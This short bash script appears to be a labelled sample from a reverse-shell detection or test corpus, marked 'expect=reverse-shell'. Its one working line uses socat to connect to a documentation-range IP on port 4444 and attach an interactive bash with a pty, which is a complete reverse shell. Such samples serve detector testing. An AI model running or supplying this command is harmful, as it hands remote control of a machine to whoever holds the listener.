#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=tune tool=socat,bash seconds=10
# socat owns the socket and a pty; bash has the other end of the pty.
cd "$LAB" || exit 1
socat TCP:198.51.100.66:4444 EXEC:"bash -i",pty,stderr,setsid,sigint,sane
true
